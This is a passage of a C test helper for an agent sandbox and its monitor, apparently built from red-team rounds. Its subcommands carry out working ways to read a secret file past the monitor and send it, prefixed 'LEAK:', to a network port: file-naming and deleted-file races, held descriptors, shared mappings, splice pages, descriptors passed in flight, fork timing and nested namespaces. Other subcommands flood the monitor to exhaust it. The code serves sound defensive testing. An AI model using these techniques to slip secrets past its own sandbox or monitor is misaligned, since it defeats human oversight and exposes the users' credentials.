        int n = atoi(argv[2]), secs = atoi(argv[3]);
        if (n > 2000) n = 2000;
        static char big[1 << 20];
        memset(big, 'A', sizeof big);
        static pid_t kids[2000];
        int started = 0;
        for (int i = 0; i < n; i++) {
            pid_t p = fork();
            if (p == 0) {
                int sv[2];
                if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0) _exit(1);
                struct iovec iov = {big, sizeof big};
                struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1};
                sendmsg(sv[0], &m, 0);
                _exit(0);
            }
            if (p > 0) kids[started++] = p;
        }
        printf("senders started: %d\n", started);
        fflush(stdout);
        sleep(secs);
        for (int i = 0; i < started; i++) kill(kids[i], SIGKILL);
        while (wait(NULL) > 0) {}
        return 0;
    }
    if (!strcmp(name, "caps") && argc == 3) {
        // caps FILE: the capabilities a root agent holds, and what they did to
        // FILE (outside what the policy lets it write), opened read-only:
        // FS_IOC_SETFLAGS append-only (CAP_LINUX_IMMUTABLE), then back.
        FILE *st = fopen("/proc/self/status", "r");
        char line[256];
        while (st && fgets(line, sizeof line, st))
            if (!strncmp(line, "Cap", 3)) fputs(line, stdout);
        if (st) fclose(st);
        printf("uid=%d\n", (int)geteuid());
        int fd = open(argv[2], O_RDONLY);
        report("open read-only", fd);
        int fl = 0;
        report("getflags", ioctl(fd, FS_IOC_GETFLAGS, &fl));
        int add = fl | FS_APPEND_FL;
        long r = ioctl(fd, FS_IOC_SETFLAGS, &add);
        report("setflags append", r);
        if (r == 0) ioctl(fd, FS_IOC_SETFLAGS, &fl);
        return 0;
    }
    if (!strcmp(name, "judge-race") && argc == 5) {
        // judge-race IP PORT FILE: six threads send "race-before" datagrams
        // (unconnected UDP, 1024 iovecs: the monitor copies the last one last),
        // then FILE is read into the buffer they send.
        race_sock = inet_socket(SOCK_DGRAM, argv[2], atoi(argv[3]), &race_sa);
        pthread_t t[6];
        for (int i = 0; i < 6; i++) pthread_create(&t[i], NULL, race_sender, NULL);
        usleep(50000); // a few dozen datagrams: the server's buffer keeps them all
        int fd = open(argv[4], O_RDONLY);
        report("open secret", fd);
        ssize_t n = fd >= 0 ? read(fd, race_slot, 63) : -1;
        report("read secret", n);
        usleep(300000);
        race_stop = 1;
        for (int i = 0; i < 6; i++) pthread_join(t[i], NULL);
        report("send after", sendto(race_sock, "after", 5, 0, (struct sockaddr *)&race_sa, sizeof race_sa));
        return 0;
    }
    if (!strcmp(name, "deleted-reopen") && argc == 5) {
        // deleted-reopen FILE IP PORT: connect and send "before" (the channel
        // works), take an O_PATH handle on FILE (a look, not a read), unlink
        // FILE, reopen the handle through /proc/self/fd/N (the kernel names it
        // "FILE (deleted)"), read it and send what was read.
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[3], atoi(argv[4]), &sa);
        long r = connect(s, (struct sockaddr *)&sa, sizeof sa);
        report("connect before", r);
        report("write before", write(s, "before\n", 7));
        int h = open(argv[2], O_PATH);
        report("open O_PATH", h);
        report("unlink", unlink(argv[2]));
        char link[64];
        snprintf(link, sizeof link, "/proc/self/fd/%d", h);
        int fd = open(link, O_RDONLY);
        report("reopen deleted", fd);
        char buf[256] = {0};
        ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf - 1) : -1;
        report("read deleted", n);
        if (n > 0 && strstr(buf, SECRET_MARK)) printf("read the secret\n");
        report("write after", n > 0 ? write(s, buf, n) : -1);
        int s2 = inet_socket(SOCK_STREAM, argv[3], atoi(argv[4]), &sa);
        r = connect(s2, (struct sockaddr *)&sa, sizeof sa);
        report("connect after", r);
        if (r == 0) report("send after", send(s2, buf, n > 0 ? n : 0, 0));
        return 0;
    }
    if (!strcmp(name, "scaffold") && argc == 6) {
        // scaffold HOW NAME IP PORT: makes scaffold.tmp for reading and writing
        // and gives it the secret name NAME (HOW: rename, link, symlink, exchange), keeps
        // the descriptor, sends "before" (the channel works), waits for the
        // file `go` (the user has written a key into NAME in place), reads the
        // key through the old descriptor and sends it.
        const char *how = argv[2], *secret = argv[3];
        struct sockaddr_in sa;
        int fd;
        long r;
        int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
        r = connect(s, (struct sockaddr *)&sa, sizeof sa);
        report("before connect", r);
        if (r == 0) report("before send", send(s, "before", 6, 0));
        close(s);
        fd = open("scaffold.tmp", O_RDWR | O_CREAT, 0600);
        if (!strcmp(how, "rename")) {
            r = rename("scaffold.tmp", secret);
        } else if (!strcmp(how, "link")) {
            r = link("scaffold.tmp", secret);
        } else if (!strcmp(how, "symlink")) {
            // By its absolute path: NAME may be in another directory.
            char abs[4096];
            r = realpath("scaffold.tmp", abs) ? symlink(abs, secret) : -1;
        } else {
            int e = open(secret, O_WRONLY | O_CREAT, 0600);
            if (e >= 0) close(e);
            r = syscall(SYS_renameat2, AT_FDCWD, "scaffold.tmp", AT_FDCWD, secret, 2);
        }
        report("scaffold fd", fd);
        report("scaffold naming", r);
        int named = open("named", O_WRONLY | O_CREAT, 0600); // the test waits for it
        if (named >= 0) close(named);
        printf("scaffold waiting\n");
        fflush(stdout);
        for (int i = 0; i < 6000 && access("go", F_OK) != 0; i++) usleep(10000);
        char key[128] = {0};
        ssize_t k = pread(fd, key, sizeof key - 1, 0);
        printf("read through the old descriptor: %zd\n", k);
        s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
        r = connect(s, (struct sockaddr *)&sa, sizeof sa);
        report("after connect", r);
        if (r == 0 && k > 0) report("after send", send(s, key, k, 0));
        return 0;
    }
    if (!strcmp(name, "createend") && argc == 6) {
        // createend HOW NAME IP PORT (red team round 7, secret-link-end-naming,
        // O_CREAT): NAME is where a secret-named link ends (or the link itself);
        // sends PRE-TAINT-CHANNEL-OK (the channel works), creates the file at NAME and keeps
        // the descriptor, HOW: rdwr, rdonly (open with O_CREAT), wronly, creat
        // (write-only: the key is read later by reopening /proc/self/fd/N),
        // openat2, dirfd (openat of the last name from an O_PATH descriptor of its
        // directory), tmpfile, tmpfile-wronly (O_TMPFILE read-write or
        // write-only in NAME's directory, then linkat through /proc/self/fd/N).
        // Creates `named`, waits for `go` (the user has written a key through
        // the link), reads the key through the descriptor and sends it.
        const char *how = argv[2], *at = argv[3];
        struct sockaddr_in sa;
        long r;
        int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
        r = connect(s, (struct sockaddr *)&sa, sizeof sa);
        report("before connect", r);
        if (r == 0) report("before send", send(s, "PRE-TAINT-CHANNEL-OK", 20, 0));
        close(s);
        char dir[4096];
        snprintf(dir, sizeof dir, "%s", at);
        char *slash = strrchr(dir, '/');
        const char *base = slash ? slash + 1 : at;
        if (slash) *slash = 0; else snprintf(dir, sizeof dir, ".");
        int fd = -1, reopen = 0;
        if (!strcmp(how, "rdwr")) {
            fd = open(at, O_RDWR | O_CREAT, 0600);
        } else if (!strcmp(how, "rdonly")) {
            fd = open(at, O_RDONLY | O_CREAT, 0600);
        } else if (!strcmp(how, "wronly")) {
            fd = open(at, O_WRONLY | O_CREAT, 0600);
            reopen = 1;
        } else if (!strcmp(how, "creat")) {
            fd = creat(at, 0600);
            reopen = 1;
        } else if (!strcmp(how, "openat2")) {
            struct open_how oh = {.flags = O_RDWR | O_CREAT, .mode = 0600};
            fd = syscall(SYS_openat2, AT_FDCWD, at, &oh, sizeof oh);
        } else if (!strcmp(how, "dirfd")) {
            int d = open(dir, O_PATH | O_DIRECTORY);
            fd = d >= 0 ? openat(d, base, O_RDWR | O_CREAT, 0600) : -1;
        } else if (!strcmp(how, "tmpfile") || !strcmp(how, "tmpfile-wronly")) {
            reopen = !strcmp(how, "tmpfile-wronly");
            fd = open(dir, O_TMPFILE | (reopen ? O_WRONLY : O_RDWR), 0600);
            char self[64];
            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
            r = fd >= 0 ? linkat(AT_FDCWD, self, AT_FDCWD, at, AT_SYMLINK_FOLLOW) : -1;
            report("createend linkat", r);
        }
        report("createend fd", fd);
        int named = open("named", O_WRONLY | O_CREAT, 0600); // the test waits for it
        if (named >= 0) close(named);
        printf("createend waiting\n");
        fflush(stdout);
        for (int i = 0; i < 6000 && access("go", F_OK) != 0; i++) usleep(10000);
        int rfd = fd;
        if (reopen && fd >= 0) {
            char self[64];
            snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
            rfd = open(self, O_RDONLY);
            report("createend reopen", rfd);
        }
        char key[128] = {0};
        ssize_t k = rfd >= 0 ? pread(rfd, key, sizeof key - 1, 0) : -1;
        printf("read through the kept descriptor: %zd\n", k);
        s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
        r = connect(s, (struct sockaddr *)&sa, sizeof sa);
        report("after connect", r);
        if (r == 0 && k > 0) {
            char msg[160];
            int len = snprintf(msg, sizeof msg, "LEAK:%s", key);
            report("after send", send(s, msg, len, 0));
        }
        return 0;
    }
    if (!strcmp(name, "slowscan") && argc == 6) {
        // slowscan PATH NFILL IP PORT (red team round 5, slow-scan): holds PATH (an
        // ordinary file now), starts NFILL idle fillers holding ~20,000
        // descriptors of /dev/null each (the late-mark scan, which looks at every
        // descriptor before it decides, then lasts seconds), creates `held`, and
        // polls what PATH holds through its descriptor every 0.5 ms: once it
        // changes (an outside tool renamed PATH to .env and wrote the secret, while
        // the scan runs), sends it (a fresh connect). Gives up after 30 s.
        const char *path = argv[2];
        int nfill = atoi(argv[3]);
        int fd = open(path, O_RDONLY);
        report("slowscan open", fd);
        if (fd < 0) return 1;
        char first[64] = {0};
        if (pread(fd, first, sizeof first - 1, 0) < 0) return 1;
        pid_t fill[64];
        if (nfill > 64) nfill = 64;
        long nfd = start_fillers(nfill, fd, fill);
        if (nfd < 0) return 1;
        printf("slowscan fillers: %d with %ld descriptors each\n", nfill, nfd);
        int h = open("held", O_WRONLY | O_CREAT, 0600);
        if (h >= 0) close(h);
        printf("slowscan held\n");
        fflush(stdout);
        for (int i = 0; i < 60000; i++) {
            char buf[128] = "LEAK:";
            ssize_t k = pread(fd, buf + 5, 100, 0);
            if (k > 0 && strncmp(buf + 5, first, 5) != 0 && memchr(buf + 5, '\n', (size_t)k)) {
                printf("slowscan read: %.*s", (int)k, buf + 5);
                fflush(stdout);
                struct sockaddr_in sa;
                int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
                long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
                if (s >= 0) report("slowscan connect", r);
                if (r == 0) report("slowscan send", send(s, buf, 5 + (size_t)k, 0));
                break;
            }
            usleep(500);
        }
        for (int i = 0; i < nfill && i < 64; i++) kill(fill[i], SIGKILL);
        while (wait(NULL) > 0) {
        }
        return 0;
    }
    if (!strcmp(name, "earlyhold") && argc == 6) {
        // earlyhold HOW PATH IP PORT: holds PATH (an ordinary file now) before it
        // becomes a secret: HOW fd (a descriptor), map (a shared mapping, the
        // descriptor closed), inflight (a descriptor passed with SCM_RIGHTS into a
        // socket's queue, every descriptor of it closed), forkhop (moved by fork
        // while the scan runs, see below), splice/vmsplice (its page in a pipe). Creates `held`, waits
        // for `go`, reads what the file holds then through what it kept, and
        // connects and sends it.
        const char *how = argv[2], *path = argv[3];
        int fd = open(path, O_RDONLY);
        report("earlyhold open", fd);
        if (fd < 0) return 1;
        char *map = NULL;
        int sp[2] = {-1, -1};
        int held_pipe[2] = {-1, -1};
        int passed_pipe = 0;
        if (!strcmp(how, "zmap")) {
            // A shared mapping, the descriptor closed, and the main thread exits
            // alone: the leader's /proc/<pid>/map_files is then empty.
            zmap_map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
            report("earlyhold mmap", zmap_map == MAP_FAILED ? -1 : 0);
            if (zmap_map == MAP_FAILED) return 1;
            close(fd);
            zmap_ip = argv[4];
            zmap_port = argv[5];
            pthread_t t;
            if (pthread_create(&t, NULL, zmap_thread, NULL) != 0) return 1;
            fflush(stdout);
            syscall(SYS_exit, 0);
        }
        if (!strcmp(how, "forkhop")) {
            // Two idle fillers with ~20,000 descriptors each (a longer scan), then
            // a holder H, which forks C 30 ms after the file became `.env` (the
            // late-mark scan has listed /proc by then) and closes its own copy:
            // C, created after the listing, holds it (red team round 5,
            // fork-after-scan-start). C does the rest below.
            pid_t fill[2];
            if (start_fillers(2, fd, fill) < 0) return 1;
            pid_t h = fork();
            if (h != 0) {
                close(fd);
                waitpid(h, NULL, 0);
                for (int i = 0; i < 2; i++) kill(fill[i], SIGKILL);
                while (wait(NULL) > 0) {
                }
                return 0;
            }
            int hh = open("held", O_WRONLY | O_CREAT, 0600);
            if (hh >= 0) close(hh);
            for (int i = 0; i < 600000 && access(".env", F_OK) != 0; i++) usleep(100);
            usleep(30000);
            pid_t c = fork();
            if (c != 0) {
                close(fd);
                printf("earlyhold forked: %d\n", c > 0);
                fflush(stdout);
                waitpid(c, NULL, 0);
                _exit(0);
            }
        }
        if (!strcmp(how, "map")) {
            map = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
            report("earlyhold mmap", map == MAP_FAILED ? -1 : 0);
            if (map == MAP_FAILED) return 1;
            close(fd);
            fd = -1;
        } else if (!strcmp(how, "inflight")) {
            report("earlyhold socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, sp));
            char cbuf[CMSG_SPACE(sizeof(int))] = {0}, one = 'x';
            struct iovec io = {.iov_base = &one, .iov_len = 1};
            struct msghdr mh = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
            struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
            c->cmsg_level = SOL_SOCKET;
            c->cmsg_type = SCM_RIGHTS;
            c->cmsg_len = CMSG_LEN(sizeof(int));
            memcpy(CMSG_DATA(c), &fd, sizeof fd);
            report("earlyhold pass", sendmsg(sp[0], &mh, 0));
            close(fd);
            fd = -1;
        } else if (!strcmp(how, "splice") || !strcmp(how, "vmsplice")) {
            // The file's page itself in a pipe's buffer (not a copy), the
            // descriptor closed: the pipe reads what is written into the page
            // later (red team round 7, splice-page-holder).
            if (pipe(held_pipe) != 0) return 1;
            long n;
            if (how[0] == 'v') {
                char *a = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
                if (a == MAP_FAILED) return 1;
                struct iovec v = {.iov_base = a, .iov_len = 64};
                n = vmsplice(held_pipe[1], &v, 1, 0);
                munmap(a, 4096);
            } else {
                n = splice(fd, NULL, held_pipe[1], NULL, 64, 0);
            }
            report("earlyhold splice", n);
            if (n <= 0) return 1;
            close(fd);
            fd = -1;
        } else if (!strcmp(how, "splicepass")) {
            // The same, and the pipe's read end then passed in a 0-byte datagram
            // and closed: the page is in flight only (red team round 8,
            // scm-rights-in-flight).
            if (pipe(held_pipe) != 0) return 1;
            report("earlyhold splice", splice(fd, NULL, held_pipe[1], NULL, 64, 0));
            close(fd);
            fd = -1;
            report("earlyhold socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, sp));
            char cbuf[CMSG_SPACE(sizeof(int))] = {0};
            struct msghdr mh = {.msg_control = cbuf, .msg_controllen = sizeof cbuf};
            struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
            c->cmsg_level = SOL_SOCKET;
            c->cmsg_type = SCM_RIGHTS;
            c->cmsg_len = CMSG_LEN(sizeof(int));
            memcpy(CMSG_DATA(c), &held_pipe[0], sizeof held_pipe[0]);
            report("earlyhold pass", sendmsg(sp[0], &mh, 0));
            close(held_pipe[0]);
            close(held_pipe[1]);
            held_pipe[0] = held_pipe[1] = -1;
            passed_pipe = 1;
        }
        int h = open("held", O_WRONLY | O_CREAT, 0600);
        if (h >= 0) close(h);
        printf("earlyhold held\n");
        fflush(stdout);
        for (int i = 0; i < 6000 && access("go", F_OK) != 0; i++) usleep(10000);
        if (sp[1] >= 0) {
            char cbuf[CMSG_SPACE(sizeof(int))] = {0}, one;
            struct iovec io = {.iov_base = &one, .iov_len = 1};
            struct msghdr mh = {.msg_iov = &io, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
            long r = recvmsg(sp[1], &mh, 0);
            report("earlyhold receive", r);
            struct cmsghdr *c = CMSG_FIRSTHDR(&mh);
            if (r == (passed_pipe ? 0 : 1) && c && c->cmsg_type == SCM_RIGHTS)
                memcpy(passed_pipe ? &held_pipe[0] : &fd, CMSG_DATA(c), sizeof fd);
        }
        char buf[256] = "LEAK:";
        ssize_t k = -1;
        if (map) {
            k = (ssize_t)strnlen(map, 200);
            memcpy(buf + 5, map, k);
        } else if (held_pipe[0] >= 0) {
            char tmp[64] = {0};
            ssize_t r = read(held_pipe[0], tmp, sizeof tmp);
            k = r > 0 ? (ssize_t)strnlen(tmp, (size_t)r) : -1;
            if (k > 0) memcpy(buf + 5, tmp, (size_t)k);
        } else if (fd >= 0) {
            k = pread(fd, buf + 5, 200, 0);
        }
        printf("earlyhold read: %zd\n", k);
        fflush(stdout);
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
        long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
        if (s >= 0) report("earlyhold connect", r);
        if (r == 0 && k > 0) report("earlyhold send", send(s, buf, 5 + k, 0));
        return 0;
    }
    if (!strcmp(name, "isoleak") && argc == 6) {
        // isoleak HOW PATH IP PORT: opens PATH (plain; creat: O_RDONLY|O_CREAT;
        // openat2), reads it, then connects and sends what it read.
        const char *how = argv[2], *path = argv[3];
        long fd;
        if (!strcmp(how, "creat")) {
            fd = open(path, O_RDONLY | O_CREAT, 0600);
        } else if (!strcmp(how, "openat2")) {
            struct open_how oh = {.flags = O_RDONLY};
            fd = syscall(SYS_openat2, AT_FDCWD, path, &oh, sizeof oh);
        } else if (!strcmp(how, "dirat")) {
            // PATH is TOP/DIR/FILE: TOP opened from the working directory
            // (O_PATH: the policy need not let it be listed), DIR relative to it
            // with O_DIRECTORY as fts opens it (a tree walk's directory open),
            // listed, and FILE opened relative to DIR.
            char top[4096];
            snprintf(top, sizeof top, "%s", path);
            char *file = strrchr(top, '/');
            if (!file) return 2;
            *file++ = 0;
            char *dir = strrchr(top, '/');
            if (!dir) return 2;
            *dir++ = 0;
            int t = open(top, O_PATH | O_DIRECTORY | O_CLOEXEC);
            report("isoleak top", t);
            int d = syscall(SYS_openat, t, dir,
                            O_RDONLY | O_NOCTTY | O_NONBLOCK | O_NOFOLLOW | O_CLOEXEC | O_DIRECTORY);
            report("isoleak dirat", d);
            char ents[4096];
            long n = d >= 0 ? syscall(SYS_getdents64, d, ents, sizeof ents) : -1;
            report("isoleak getdents", n);
            fd = d >= 0 ? openat(d, file, O_RDONLY) : -1;
        } else {
            fd = open(path, O_RDONLY);
        }
        report("isoleak open", fd);
        char buf[256] = "LEAK:";
        ssize_t k = fd >= 0 ? read(fd, buf + 5, sizeof buf - 6) : -1;
        printf("isoleak read: %zd\n", k);
        fflush(stdout);
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[4], atoi(argv[5]), &sa);
        long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
        if (s >= 0) report("isoleak connect", r);
        if (r == 0 && k > 0) report("isoleak send", send(s, buf, 5 + k, 0));
        return 0;
    }
    if (!strcmp(name, "tmpfileat") && argc == 4) {
        // tmpfileat DIR NAME: O_TMPFILE|O_RDWR relative to an O_PATH descriptor
        // of DIR (a creation: always the monitor's in isolated mode).
        int d = open(argv[2], O_PATH | O_DIRECTORY | O_CLOEXEC);
        report("tmpfileat dir", d);
        report("tmpfileat", syscall(SYS_openat, d, argv[3], O_TMPFILE | O_RDWR, 0600));
        return 0;
    }
    if (!strcmp(name, "fifoswap") && argc == 5) {
        // fifoswap DIR FIFO N: exchanges a directory and a FIFO N times.
        int n = atoi(argv[4]), ok = 0;
        for (int i = 0; i < n; i++)
            ok += syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0;
        printf("fifoswap: %d of %d exchanges\n", ok, n);
        fflush(stdout);
        return 0;
    }
    if (!strcmp(name, "deepchain") && argc == 6) {
        // deepchain PATH DEPTH IP PORT: a chain of DEPTH processes in a new user
        // and pid namespace (see deep_level); the last reads PATH and sends it.
        deep_path = argv[2];
        deep_depth = atoi(argv[3]);
        deep_ip = argv[4];
        deep_port = argv[5];
        pid_t p = clone(deep_chain, deep_stack0 + sizeof deep_stack0, CLONE_NEWUSER | CLONE_NEWPID | SIGCHLD, 0);
        report("deepchain clone", p);
        if (p < 0) return 1;
        int st = 0;
        waitpid(p, &st, 0);
        return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
    }
    if (!strcmp(name, "tcp") && argc >= 5) {
        // tcp IP PORT MESSAGE [SECRET]: connect and send.
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sa);
        read_if(argc, argv, 5);
        long r = connect(s, (struct sockaddr *)&sa, sizeof sa);
        report("tcp connect", r);
        if (r == 0) report("tcp send", send(s, argv[4], strlen(argv[4]), 0));
        return 0;
    }
    if (!strcmp(name, "udp") && argc >= 5) {
        // udp IP PORT MESSAGE [SECRET]: sendto and sendmmsg (what glibc's
        // resolver uses).
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_DGRAM, argv[2], atoi(argv[3]), &sa);
        read_if(argc, argv, 5);
        report("udp sendto", sendto(s, argv[4], strlen(argv[4]), 0, (struct sockaddr *)&sa, sizeof sa));
        struct iovec iov = {argv[4], strlen(argv[4])};
        struct mmsghdr mm = {0};
        mm.msg_hdr.msg_name = &sa;
        mm.msg_hdr.msg_namelen = sizeof sa;
        mm.msg_hdr.msg_iov = &iov;
        mm.msg_hdr.msg_iovlen = 1;
        report("udp sendmmsg", sendmmsg(s, &mm, 1, 0));
        return 0;
    }
    if (!strcmp(name, "self-server") && argc == 4) {
        // self-server IP PORT: a server of the sandbox's own, and a client of it.
        struct sockaddr_in sa;
        int l = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sa);
        int one = 1;
        setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
        long r = bind(l, (struct sockaddr *)&sa, sizeof sa);
        report("bind", r);
        if (r < 0) return 0;
        report("listen", listen(l, 4));
        int c = socket(AF_INET, SOCK_STREAM, 0);
        r = connect(c, (struct sockaddr *)&sa, sizeof sa);
        report("connect", r);
        if (r < 0) return 0;
        report("write", write(c, "ping", 4));
        int a = accept(l, NULL, NULL);
        report("accept", a);
        char buf[8] = {0};
        report("read", read(a, buf, 4));
        printf("self-server: got=%s\n", buf);
        return 0;
    }
    if (!strcmp(name, "netleak") && argc == 6) {
        // netleak VARIANT IP PORT SECRET_FILE
        return netleak(argv[2], argv[3], atoi(argv[4]), argv[5]);
    }
    if (!strcmp(name, "net-probe") && argc >= 3) {
        // net-probe SECRET|- REQ...: reads the secret (unless "-"), then makes
        // each request (see probe).
        if (strcmp(argv[2], "-")) {
            int fd = open(argv[2], O_RDONLY);
            report("open secret", fd);
            if (fd >= 0) close(fd);
        }
        for (int i = 3; i < argc; i++) probe(argv[i]);
        return 0;
    }
    if (!strcmp(name, "netgap") && argc == 6) {
        // netgap HOW IP PORT SECRET|-: an implicit connect or send (TCP Fast Open,
        // UDP corking) started before the secret is read and used after it.
        netgap(argv[2], argv[3], atoi(argv[4]), argv[5]);
        return 0;
    }
    if (!strcmp(name, "socket-kinds")) {
        socket_kinds();
        return 0;
    }
    if (!strcmp(name, "inherited") && argc >= 4) {
        // inherited SECRET FD...: writes on sockets inherited at those numbers,
        // before and after reading the secret.
        for (int i = 3; i < argc; i++) {
            char what[64];
            snprintf(what, sizeof what, "write before fd %s", argv[i]);
            report(what, write(atoi(argv[i]), "before\n", 7));
        }
        usleep(100000);
        gap_secret(argv[2]);
        for (int i = 3; i < argc; i++) {
            char what[64];
            snprintf(what, sizeof what, "write after fd %s", argv[i]);
            report(what, write(atoi(argv[i]), gap_payload, strlen(gap_payload)));
        }
        return 0;
    }
    if (!strcmp(name, "sockmode") && argc == 4) {
        // sockmode IP PORT: connects a blocking socket and a non-blocking,
        // close-on-exec one to IP:PORT and reports the descriptor and file
        // flags each has afterwards (in isolated mode both are sockets the
        // monitor made and installed in place of the agent's).
        struct sockaddr_in sa;
        int b = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sa);
        report("blocking connect", connect(b, (struct sockaddr *)&sa, sizeof sa));
        printf("blocking: nonblock=%d cloexec=%d\n", !!(fcntl(b, F_GETFL) & O_NONBLOCK),
               !!(fcntl(b, F_GETFD) & FD_CLOEXEC));
        report("blocking write", write(b, "b\n", 2));
        int n = inet_socket(SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, argv[2], atoi(argv[3]), &sa);
        report("nonblocking connect", connect(n, (struct sockaddr *)&sa, sizeof sa));
        printf("nonblocking: nonblock=%d cloexec=%d\n", !!(fcntl(n, F_GETFL) & O_NONBLOCK),
               !!(fcntl(n, F_GETFD) & FD_CLOEXEC));
        struct pollfd p = {n, POLLOUT, 0};
        report("poll", poll(&p, 1, 5000));
        report("nonblocking write", write(n, "n\n", 2));
        // A blocking connect that is refused (nothing listens on PORT+1).
        int r = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]) + 1, &sa);
        report("refused connect", connect(r, (struct sockaddr *)&sa, sizeof sa));
        return 0;
    }
    if (!strcmp(name, "hold") && argc == 6) {
        // hold tcp|udp IP PORT SECRET_FILE: connect, send, read a secret, send again
        // on the socket that was already open.
        int udp = !strcmp(argv[2], "udp");
        struct sockaddr_in sa;
        int s = inet_socket(udp ? SOCK_DGRAM : SOCK_STREAM, argv[3], atoi(argv[4]), &sa);
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        int fd = open(argv[5], O_RDONLY);
        report("open secret", fd);
        if (fd >= 0) close(fd);
        usleep(100000);
        report("write after", write(s, "after\n", 6));
        report("send after", send(s, "after2\n", 7, 0));
        int s2 = dup(s);
        report("write after (dup)", write(s2, "after3\n", 7));
        return 0;
    }
    if (!strcmp(name, "inflight") && argc == 5) {
        // inflight IP PORT SECRET_FILE: connect, then hide the only reference to the
        // socket in flight (SCM_RIGHTS on a socketpair, original closed) for as long
        // as the monitor's socket reaper needs to see no process holding it; take it
        // back, read the secret, send.
        struct sockaddr_in sa;
        int s = inet_socket(SOCK_STREAM, argv[2], atoi(argv[3]), &sa);
        report("connect", connect(s, (struct sockaddr *)&sa, sizeof sa));
        report("write before", write(s, "before\n", 7));
        int sp[2];
        report("socketpair", socketpair(AF_UNIX, SOCK_DGRAM, 0, sp));
        char byte = 'x', cbuf[CMSG_SPACE(sizeof(int))];
        struct iovec iov = {&byte, 1};
        struct msghdr m = {0};
        m.msg_iov = &iov;
        m.msg_iovlen = 1;
        m.msg_control = cbuf;
        m.msg_controllen = sizeof cbuf;
        struct cmsghdr *c = CMSG_FIRSTHDR(&m);
        c->cmsg_level = SOL_SOCKET;
        c->cmsg_type = SCM_RIGHTS;
        c->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(c), &s, sizeof(int));
        report("send fd", sendmsg(sp[0], &m, 0));
        close(s);
        usleep(1500000); // the monitor's socket reaper runs meanwhile
        memset(cbuf, 0, sizeof cbuf);
        m.msg_controllen = sizeof cbuf;
        report("recv fd", recvmsg(sp[1], &m, 0));
        c = CMSG_FIRSTHDR(&m);
        int s2 = -1;
        if (c && c->cmsg_type == SCM_RIGHTS) memcpy(&s2, CMSG_DATA(c), sizeof(int));
        int fd = open(argv[4], O_RDONLY);
        report("open secret", fd);
        if (fd >= 0) close(fd);
        usleep(100000);
        report("write after", write(s2, "after\n", 6));
        return 0;
    }
    if (!strcmp(name, "hostile-msg") && argc == 6) {
        // hostile-msg IP PORT N ORDINARY_FILE: malformed message headers, N times
        // each, then ordinary calls.
        hostile_msgs(argv[2], atoi(argv[3]), atoi(argv[4]), argv[5]);
        return 0;
    }
    if (!strcmp(name, "fifo-flood") && argc == 5) {
        // fifo-flood FIFO N ORDINARY: N threads open FIFO for reading (no writer:
        // each waits); meanwhile ordinary opens from this thread; then one writer
        // lets them all through.
        flood_fifo = argv[2];
        int n = atoi(argv[3]);
        pthread_attr_t attr;
        pthread_attr_init(&attr);
        pthread_attr_setstacksize(&attr, 64 * 1024);
        pthread_t *ts = calloc(n, sizeof *ts);
        int started = 0;
        for (int i = 0; i < n; i++)
            if (pthread_create(&ts[i], &attr, flood_open, NULL) == 0) started++;
            else break;
        printf("fifo-flood: started=%d\n", started);
        fflush(stdout);
        usleep(1500000);  // every thread is waiting in its open by now
        struct timespec t0;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        int ok = 0;
        for (int i = 0; i < 200; i++) {
            int fd = open(argv[4], O_RDONLY);
            if (fd >= 0) {
                ok++;
                close(fd);
            }
        }
        printf("fifo-flood: ordinary opens=%d in %ld ms, while %d fifo opens wait\n", ok, ms_since(&t0),
               started - flood_opened - flood_eagain);
        fflush(stdout);
        // Non-blocking: readers are waiting, so it opens at once (and it needs no
        // thread of the monitor's, which may have none left to start).
        int w = open(flood_fifo, O_WRONLY | O_NONBLOCK);
        report("fifo-flood: writer", w >= 0 ? 0 : -1);
        for (int i = 0; i < started; i++) pthread_join(ts[i], NULL);
        printf("fifo-flood: fifo opens=%d eagain=%d\n", flood_opened, flood_eagain);
        return 0;
    }
    if (!strcmp(name, "connect-flood") && argc == 6) {
        // connect-flood IP PORT N ORDINARY: N threads connect (blocking) to a
        // server whose backlog is full; meanwhile ordinary opens from this thread.
        memset(&flood_addr, 0, sizeof flood_addr);
        flood_addr.sin_family = AF_INET;
